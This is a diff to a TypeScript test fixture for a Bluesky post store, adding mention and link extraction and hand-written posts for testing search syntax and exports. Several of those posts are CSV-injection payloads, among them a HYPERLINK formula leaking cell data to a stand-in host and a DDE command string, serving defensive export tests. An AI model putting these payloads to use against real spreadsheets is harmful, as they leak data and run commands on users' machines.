@@ -70,8 +70,78 @@ export interface PostFact {
   text: string | null;
   langs: string[];
   hashtags: string[];
+  /** DIDs of #mention facets. */
+  mentions: string[];
+  /** URIs of #link facets and of an external embed. */
+  links: string[];
   hasMedia: boolean;
   isReply: boolean;
+}
+
+export const SYNTAX_DID = 'did:plc:querysyntaxexamples0001';
+export const SYNTAX_HANDLE = 'syntax-examples.example.com';
+
+export interface SyntaxPost {
+  text: string;
+  langs: string[];
+  /** DIDs mentioned (#mention facets). */
+  mentions?: string[];
+  /** #link facet URIs. */
+  links?: string[];
+  /** An external embed (a link card). */
+  card?: string;
+  /** #tag facets. */
+  tags?: string[];
+}
+
+/**
+ * Hand-written posts of SYNTAX_DID for the search syntax (q) and the exports, two
+ * hours into the window: mentions, links (a host in capitals with www. and a port,
+ * a subdomain, a card), hashtags, languages, and texts that spreadsheets would run
+ * as formulas (CSV injection), with hostile links and hashtags of their own.
+ */
+export const SYNTAX_POSTS: readonly SyntaxPost[] = [
+  { text: 'Morning coffee with @edge-cases.example.com', langs: ['en'], mentions: [SPECIAL_DID] },
+  { text: 'coffee this morning, black', langs: ['en'] },
+  { text: 'Coffee and tea, both', langs: ['en'] },
+  { text: 'Tea time: example.com/tea', langs: ['en'], links: ['https://WWW.Example.com:443/tea?ref=bsky'] },
+  { text: 'Café au lait #CoffeeTime', langs: ['fr'], tags: ['CoffeeTime'], links: ['https://blog.example.com/cafe'] },
+  { text: 'Le café du matin', langs: ['fr-CA'], card: 'https://www.example.org/matin' },
+  { text: '=HYPERLINK("https://evil.example/?leak="&A1, "click me")', langs: ['en'], tags: ['=1+1', 'formulas'], links: ["=cmd|' /C calc'!A0"] },
+  { text: '+SUM(1,1)', langs: ['en'], tags: ['formulas'] },
+  { text: '-2+3', langs: ['en'], tags: ['formulas'] },
+  { text: '@SUM(A1:A2)', langs: ['en'], tags: ['formulas'] },
+  { text: '  =1+1 after spaces', langs: ['en'], tags: ['formulas'] },
+  { text: '＝1+1 full-width', langs: ['en'], tags: ['formulas'] },
+  { text: '\t=1+1 after a tab', langs: ['en'], tags: ['controlformulas'] },
+  { text: '\r=1+1 after a carriage return', langs: ['en'], tags: ['controlformulas'] },
+  { text: '\u200B=1+1 after a zero-width space', langs: ['en'], tags: ['controlformulas'] },
+  { text: '抹茶\u3000matcha\u3000latte break', langs: ['ja'] }, // ideographic spaces between words
+];
+
+/** SYNTAX_POSTS as posts of SYNTAX_DID a second apart from `base` (µs), and the author's handle. */
+export function syntaxFrames(base = WINDOW_START * 1000 + 2 * 3_600_000_000): string[] {
+  const frames = SYNTAX_POSTS.map((post, i) => {
+    const timeUs = base + i * 1_000_000;
+    const facet = (feature: Record<string, unknown>) => ({ index: { byteStart: 0, byteEnd: 1 }, features: [feature] });
+    const facets = [
+      ...(post.mentions ?? []).map((did) => facet({ $type: 'app.bsky.richtext.facet#mention', did })),
+      ...(post.links ?? []).map((uri) => facet({ $type: 'app.bsky.richtext.facet#link', uri })),
+      ...(post.tags ?? []).map((tag) => facet({ $type: 'app.bsky.richtext.facet#tag', tag })),
+    ];
+    const record: Record<string, unknown> = { $type: 'app.bsky.feed.post', createdAt: new Date(timeUs / 1000).toISOString(), langs: post.langs, text: post.text };
+    if (facets.length > 0) record.facets = facets;
+    if (post.card) record.embed = { $type: 'app.bsky.embed.external', external: { uri: post.card, title: 'a card', description: '' } };
+    return JSON.stringify({
+      did: SYNTAX_DID,
+      time_us: timeUs,
+      kind: 'commit',
+      commit: { rev: tid(timeUs, 1), operation: 'create', collection: 'app.bsky.feed.post', rkey: tid(timeUs, 2), record, cid: 'bafyreisyntax' },
+    });
+  });
+  const later = base + 100_000_000;
+  frames.push(JSON.stringify({ did: SYNTAX_DID, time_us: later, kind: 'identity', identity: { did: SYNTAX_DID, handle: SYNTAX_HANDLE, seq: 3, time: new Date().toISOString() } }));
+  return frames;
 }
 
 export interface ApiFixture {
@@ -161,6 +231,16 @@ function facts(frames: readonly string[]): { posts: PostFact[]; deleted: Set<str
     for (const t of Array.isArray(r.tags) ? r.tags : []) if (typeof t === 'string' && t) tags.add(t.replace(/^#/, '').toLowerCase());
     const embedType = r.embed?.$type;
     const mediaType = embedType === 'app.bsky.embed.recordWithMedia' ? r.embed?.media?.$type : embedType;
+    const mentions = new Set<string>();
+    const links = new Set<string>();
+    for (const facet of Array.isArray(r.facets) ? r.facets : []) {
+      for (const f of Array.isArray(facet?.features) ? facet.features : []) {
+        if (f?.$type === 'app.bsky.richtext.facet#mention' && typeof f.did === 'string' && f.did) mentions.add(f.did);
+        if (f?.$type === 'app.bsky.richtext.facet#link' && typeof f.uri === 'string' && f.uri) links.add(f.uri);
+      }
+    }
+    const card = (embedType === 'app.bsky.embed.recordWithMedia' ? r.embed?.media : r.embed)?.external?.uri;
+    if (typeof card === 'string' && card) links.add(card);
     posts.push({
       uri,
       did: e.did,
@@ -169,6 +249,8 @@ function facts(frames: readonly string[]): { posts: PostFact[]; deleted: Set<str
       text: typeof r.text === 'string' ? r.text : null,
       langs: Array.isArray(r.langs) ? r.langs.filter((l: unknown) => typeof l === 'string') : [],
       hashtags: [...tags],
+      mentions: [...mentions],
+      links: [...links],
       hasMedia: MEDIA.has(mediaType),
       isReply: typeof r.reply?.parent?.uri === 'string',
     });
@@ -193,7 +275,7 @@ export async function writeStore(connection: DuckDBConnection, dataDir: string, 
 }
 
 export async function buildStore(dataDir: string): Promise<ApiFixture> {
-  const frames = [...generateFrames({ seed: 31, mix: 'plan' }, 20_000, START_US, STEP_US).map((f) => f.text), ...specialFrames()];
+  const frames = [...generateFrames({ seed: 31, mix: 'plan' }, 20_000, START_US, STEP_US).map((f) => f.text), ...specialFrames(), ...syntaxFrames()];
   const { instance, connection } = await openDuckDB({ threads: 2 });
   // The first hours compacted (with their term index), the rest left as batch files: queries must read both.
   await writeStore(connection, dataDir, frames, WINDOW_START + 6 * 3_600_000);
